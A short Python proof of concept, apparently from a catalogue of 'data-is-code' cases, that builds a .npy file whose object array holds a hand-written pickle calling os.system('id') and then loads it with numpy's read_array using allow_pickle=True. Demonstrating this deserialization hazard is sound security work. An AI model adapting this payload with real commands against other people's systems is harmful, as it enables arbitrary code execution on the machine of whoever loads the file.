# Source: https://github.com/numpy/numpy/pull/12889 (np.lib.format.read_array allow_pickle)
# Family: data-is-code
# What: np.lib.format.read_array of a .npy whose object array is a pickle
import io
import numpy as np

hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + b" " * (118 - len(hdr)) + b"\n"
blob = b"\x93NUMPY\x01\x00" + len(hdr).to_bytes(2, "little") + hdr
blob += b"cos\nsystem\n(S'id'\ntR."
np.lib.format.read_array(io.BytesIO(blob), allow_pickle=True)
